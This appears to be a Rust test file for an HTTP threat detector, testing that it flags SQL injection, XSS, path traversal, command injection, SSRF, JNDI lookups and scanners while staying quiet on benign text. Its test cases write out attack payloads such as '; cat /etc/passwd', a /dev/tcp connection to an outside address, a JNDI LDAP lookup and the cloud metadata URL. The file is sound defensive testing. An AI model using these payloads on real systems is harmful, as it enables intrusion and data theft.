use intelligence::Exchange;
use intelligence::auth::AuthScheme;
use intelligence::exchange::Side;
use proptest::prelude::*;

use super::*;

static CALLER: std::sync::LazyLock<intelligence::Caller> =
    std::sync::LazyLock::new(|| intelligence::Caller::peer("test"));

fn exchange<'a>(
    path: &'a str,
    query: Option<&'a str>,
    request: Side<'a>,
    response: Side<'a>,
) -> Exchange<'a> {
    Exchange {
        method: "POST",
        path,
        query,
        status: Some(200),
        request,
        response,
        caller: &CALLER,
        auth: AuthScheme::None,
        time_unix_secs: 0,
        latency_us: None,
    }
}

fn side<'a>(headers: &'a [(&'a str, &'a str)], body: &'a [u8]) -> Side<'a> {
    Side {
        headers,
        body,
        body_complete: true,
        seen: true,
    }
}

/// (path, query, headers, body, expected kind, expected location).
type RequestCase<'a> = (
    &'a str,
    Option<&'a str>,
    &'a [(&'a str, &'a str)],
    &'a [u8],
    ThreatKind,
    &'a str,
);

fn kinds(threats: &[Threat]) -> Vec<ThreatKind> {
    threats.iter().map(|t| t.kind).collect()
}

#[test]
fn each_request_detector_fires_where_its_payload_sits() {
    let detector = Detector::new();
    let json = [("Content-Type", "application/json")];
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let cases: [RequestCase<'_>; 9] = [
        (
            "/items",
            Some("id=1%27%20or%20%271%27%3D%271"),
            &[],
            b"",
            ThreatKind::Sqli,
            "query.id",
        ),
        (
            "/items",
            None,
            &json,
            br#"{"comment":"<svg onload=alert(1)>"}"#,
            ThreatKind::Xss,
            "body/comment",
        ),
        (
            "/files",
            Some("name=..%2f..%2fetc%2fpasswd"),
            &[],
            b"",
            ThreatKind::PathTraversal,
            "query.name",
        ),
        (
            "/ping",
            None,
            &form,
            b"host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd",
            ThreatKind::CommandInjection,
            "body.host",
        ),
        (
            "/fetch",
            Some("url=http://169.254.169.254/latest/meta-data/"),
            &[],
            b"",
            ThreatKind::Ssrf,
            "query.url",
        ),
        (
            "/",
            None,
            &[("X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}")],
            b"",
            ThreatKind::Jndi,
            "header.x-api-version",
        ),
        (
            "/login",
            None,
            &json,
            br#"{"user":"admin","password":{"$ne":null}}"#,
            ThreatKind::Nosqli,
            "body/password/$ne",
        ),
        (
            "/",
            None,
            &[("User-Agent", "sqlmap/1.7")],
            b"",
            ThreatKind::Scanner,
            "header.user-agent",
        ),
        (
            "/",
            None,
            &[(
                "Cookie",
                "session=abc; theme=%3Cscript%3Ealert(1)%3C/script%3E",
            )],
            b"",
            ThreatKind::Xss,
            "cookie.theme",
        ),
    ];
    for (path, query, headers, body, kind, location) in cases {
        let threats =
            detector.request(&exchange(path, query, side(headers, body), Side::default()));
        assert!(
            threats
                .iter()
                .any(|t| t.kind == kind && t.location == location),
            "{kind:?} at {location} not found in {threats:?}"
        );
        assert!(
            threats
                .iter()
                .all(|t| !t.evidence.contains("passwd") && !t.evidence.contains("alert"))
        );
    }
}

#[test]
fn ordinary_api_traffic_is_quiet() {
    let detector = Detector::new();
    let json = [
        ("Content-Type", "application/json"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0",
        ),
    ];
    let body = br#"{"name":"Se\u00e1n O'Brien","address":"12 O'Connell St; Apt #4, Dublin","note":"Please select a plan from the list -- or drop table tennis from the agenda. Files live in ../docs/setup.md; see https://example.com/help?a=1&b=2","snippet":"if (a < b && c > d) { return x; } // compare","price":"$12.50 (incl. 20% VAT)"}"#;
    let threats = detector.request(&exchange(
        "/api/v1/customers/42",
        Some("q=rock+%26+roll&sort=-created_at&page=2"),
        side(&json, body),
        Side::default(),
    ));
    assert!(threats.is_empty(), "{threats:?}");
}

#[test]
fn responses_are_checked_for_leaks_and_headers() {
    let detector = Detector::new();
    let request = [
        ("Origin", "https://evil.example"),
        ("Host", "api.example.com"),
    ];
    let headers = [
        ("Content-Type", "text/html"),
        ("Access-Control-Allow-Origin", "https://evil.example"),
        ("Access-Control-Allow-Credentials", "true"),
        ("X-Backend", "10.0.4.2:8080"),
    ];
    let body = b"<h1>Whitelabel Error Page</h1><pre>java.lang.IllegalStateException: boom\n\tat com.acme.Api.get(Api.java:42)\n</pre>";
    let threats = detector.response(&exchange(
        "/",
        None,
        side(&request, b""),
        side(&headers, body),
    ));
    let mut found = kinds(&threats);
    found.sort();
    assert_eq!(
        found,
        [
            ThreatKind::StackTrace,
            ThreatKind::DebugPage,
            ThreatKind::InternalAddress,
            ThreatKind::MissingSecurityHeaders,
            ThreatKind::CorsMisconfigured
        ]
    );
    let quiet = [("Content-Type", "application/json")];
    let unseen = detector.response(&exchange(
        "/",
        None,
        side(&request, b""),
        side(&quiet, br#"{"error":"order not found"}"#),
    ));
    assert!(unseen.is_empty(), "{unseen:?}");
}

#[test]
fn payloads_are_found_wherever_the_body_hides_them() {
    let detector = Detector::new();
    let xml = [("Content-Type", "application/xml")];
    let multipart = [("Content-Type", "multipart/form-data; boundary=----b0undary")];
    let plain = [("Content-Type", "text/plain")];
    let upload = [("X-Filename", "avatar. php")];
    let cases: [RequestCase<'_>; 6] = [
        (
            "/",
            None,
            &xml,
            br#"<?xml version="1.0"?><order><item type="java.lang.ProcessBuilder">1</item></order>"#,
            ThreatKind::Jndi,
            "body/item@type",
        ),
        (
            "/",
            None,
            &multipart,
            b"------b0undary\r\nContent-Disposition: form-data; name=\"meta\"\r\nContent-Type: application/json\r\n\r\n{\"note\":\"1' union select password from users--\"}\r\n------b0undary--\r\n",
            ThreatKind::Sqli,
            "body.meta/note",
        ),
        (
            "/",
            None,
            &multipart,
            b"------b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.txt\"\r\n\r\nhi\r\n------b0undary--\r\n",
            ThreatKind::PathTraversal,
            "body.file.filename",
        ),
        ("/upload", None, &upload, b"", ThreatKind::CommandInjection, "header.x-filename"),
        (
            "/",
            None,
            &plain,
            b"host=example.org&cmd=nohup whoami\n",
            ThreatKind::CommandInjection,
            "body.cmd",
        ),
        ("/.git/config", None, &[], b"", ThreatKind::PathTraversal, "path"),
    ];
    for (path, query, headers, body, kind, location) in cases {
        let threats =
            detector.request(&exchange(path, query, side(headers, body), Side::default()));
        assert!(
            threats
                .iter()
                .any(|t| t.kind == kind && t.location == location),
            "{kind:?} at {location} not found in {threats:?}"
        );
    }
}

#[test]
fn commands_without_separators_wake_the_command_check() {
    let detector = Detector::new();
    for query in [
        "q=%22w%22get%20localhost",
        "q=%7B%2Cecho%2C%23test%7D",
        "q=exec%205%3C%3E%2Fdev%2Ftcp%2F203.0.113.9%2F80",
        "q=if%2Fi%20a%3D%3Db%20foo",
    ] {
        let threats =
            detector.request(&exchange("/", Some(query), side(&[], b""), Side::default()));
        assert!(
            kinds(&threats).contains(&ThreatKind::CommandInjection),
            "{query}: {threats:?}"
        );
    }
}

#[test]
fn handlers_and_words_split_by_what_browsers_drop_wake_the_xss_check() {
    // The prefilter wakes XSS on `=`, on the characters it drops and on comments, not on `on`:
    // none of these holds another of its triggers.
    let detector = Detector::new();
    for query in [
        "q=%22%20onmouseover%3D%22x(1)",
        "q=onerror%3Dx(1)",
        "q=new%20function()",
        "q=x%3Aexpr%2F**%2Fession(1)",
        "q=con%2F**%2Ffirm(1)",
        "q=javascr%09ipt%3Ax(1)",
        "q=%22%20o%0Anerror%3Dx(1)",
    ] {
        let threats =
            detector.request(&exchange("/", Some(query), side(&[], b""), Side::default()));
        assert!(
            kinds(&threats).contains(&ThreatKind::Xss),
            "{query}: {threats:?}"
        );
    }
}

#[test]
fn json_bodies_are_read_as_parsed() {
    let detector = Detector::new();
    let headers = [("Content-Type", "application/json")];
    // Every value of a repeated key is judged, escaped strings are decoded.
    let body = br#"{"q":"fine","q":"<script>alert(1)<\/script>","n":[1,{"k":"' or 1=1--"}]}"#;
    let threats = detector.request(&exchange("/", None, side(&headers, body), Side::default()));
    for (kind, location) in [
        (ThreatKind::Xss, "body/q"),
        (ThreatKind::Sqli, "body/n/1/k"),
    ] {
        assert!(
            threats
                .iter()
                .any(|t| t.kind == kind && t.location == location),
            "{kind:?} at {location} not in {threats:?}"
        );
    }
    // Not JSON after all: the body is judged as text, and nothing of the failed parse is kept.
    let body = br#"{"a":"x","b":"<script>alert(1)</script>" trailing"#;
    let threats = detector.request(&exchange("/", None, side(&headers, body), Side::default()));
    assert!(
        threats
            .iter()
            .all(|t| t.location == "body" || !t.location.starts_with("body")),
        "{threats:?}"
    );
    assert!(kinds(&threats).contains(&ThreatKind::Xss), "{threats:?}");
}

#[test]
fn prose_names_and_code_talk_are_quiet_wherever_they_are_sent() {
    let detector = Detector::new();
    let json = [("Content-Type", "application/json")];
    for text in [
        "Siobhán O'Neill, 4 D'Arcy Lane; Flat #2",
        "Select a plan (monthly or yearly), then drop us a line -- we answer within 1 day",
        "Union Select Realty (Ireland) Ltd",
        "Run `npm ci` in the repo root, then `ls -la dist` to check the build.",
        "The logs are in ../logs/app.log; rotate them weekly.",
        "if (total > 0 && ready) { return rows[0]; } // first row",
        "Costs $15.00 (incl. 23% VAT) - 2 for 1 today",
        "Java, Python or Ruby? We use java.util.List mostly.",
        "Time for bed; nice cat photo & watch less TV",
        "C:\\Users\\Shared\\notes.txt and /home/me/notes.txt",
        "For each item in (the cart) do a price check",
        "<b>Bold</b> and <i>italic</i> are fine; <3 the team",
    ] {
        let body = serde_json::json!({ "note": text }).to_string();
        let in_body = detector.request(&exchange(
            "/notes",
            None,
            side(&json, body.as_bytes()),
            Side::default(),
        ));
        let encoded: String = text
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                    char::from(b).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect();
        let query = format!("note={encoded}");
        let in_query = detector.request(&exchange(
            &format!("/notes/{encoded}"),
            Some(&query),
            side(&[], b""),
            Side::default(),
        ));
        assert!(in_body.is_empty(), "{text:?} in a body: {in_body:?}");
        assert!(
            in_query.is_empty(),
            "{text:?} in the path or query: {in_query:?}"
        );
    }
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(path in ".{0,64}", query in proptest::option::of(".{0,128}"), body in proptest::collection::vec(any::<u8>(), 0..512), header in ".{0,64}") {
        let detector = Detector::new();
        let headers = [("User-Agent", header.as_str()), ("Content-Type", "application/json"), ("Cookie", header.as_str())];
        let call = exchange(&path, query.as_deref(), side(&headers, &body), side(&headers, &body));
        let threats = detector.request(&call);
        prop_assert!(threats.len() <= MAX_INPUTS * Check::ALL.len() + 2);
        detector.response(&call);
    }
}

#[test]
fn everyday_api_values_are_quiet_in_bodies_and_headers() {
    let detector = Detector::new();
    let values = [
        "https://cdn.example.com/img/avatar.png?size=64&v=2",
        "c3c5b7de-8ac9-4f86-9c49-0b6dee85f7d8",
        "2024-05-17T09:30:00+02:00",
        "report-final (v2).docx",
        "IMG_2024-01-01.jpeg",
        "java 17 and spring boot 3.2",
        "com.example.orders.api",
        "org.acme:widget:1.0.3",
        "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc",
        "_ga=GA1.2.123.456; theme=dark; lang=en-US",
        "sess=abc%3D%3D; csrftoken=xyz",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "gzip, deflate, br",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        "## Steps\n1. Open settings\n2. Click *Save*\n\n```\nnpm install\nnpm run build\n```",
        "SELECT your seats now - only $19.99!",
        "Drop-off at 5pm; pick-up at 9am",
        "for i in range(10): print(i)",
        "if x > 5 then y = 2",
        "The user's cat (Tom) & dog (Rex) | both vaccinated",
        "50% off; use code SAVE50 at checkout",
        "C:\\Program Files\\App\\config.ini",
        "/home/user/.config/app/settings.json",
        "~/Documents/notes.txt",
        "see ./README.md and ../CHANGELOG.md",
        "A & B; C | D",
        "email: a.b@c.io; phone: +1 (555) 010-0199",
        "order #1234 -- shipped",
        "<p>Hello <strong>world</strong></p>",
        "time series; nice graphs",
        "Set-Cookie issues in Safari",
        "Get-Help in PowerShell is useful",
        "we run `make test` before merging",
        "{\"a\":1,\"b\":[1,2,3]}",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "price >= 10 and price <= 20",
        "Tom's Diner, 2nd floor",
        "O'Reilly Media",
        "rock'n'roll",
        "x-forwarded-for: 10.0.0.1",
        "kubectl get pods -n default",
        "Run: docker compose up -d",
        "Use ssh -i key.pem user@host",
        "union station, 3rd exit",
        "who am i",
        "cat lovers club",
        "sleep apnea (mild)",
        "exec summary: Q3",
        "Alias: Bobby",
        "export to CSV",
        "uname and password required",
        "echo chamber",
        "eval period: 30 days",
        "system (linux/windows)",
        "print_r is a php function",
        "we use $_POST in legacy code",
        "O:Reilly",
        "${HOME}/bin",
        "cost: ${price}",
        "See [docs](https://example.com/docs) and ![](img.png)",
        "var x = document.getElementById('a');",
        "onboarding=done",
        "ActiveRecord is an ORM",
        "java.util.List<String> items",
        "Hello {{name}}",
        "#{count} items",
        "url(img/bg.png)",
    ];
    let json = [("Content-Type", "application/json")];
    for text in values {
        let body = serde_json::json!({ "v": text }).to_string();
        let in_body = detector.request(&exchange(
            "/x",
            None,
            side(&json, body.as_bytes()),
            Side::default(),
        ));
        let headers = [("X-Note", text)];
        let in_header =
            detector.request(&exchange("/x", None, side(&headers, b""), Side::default()));
        assert!(in_body.is_empty(), "{text:?} in a body: {in_body:?}");
        assert!(in_header.is_empty(), "{text:?} in a header: {in_header:?}");
    }
}
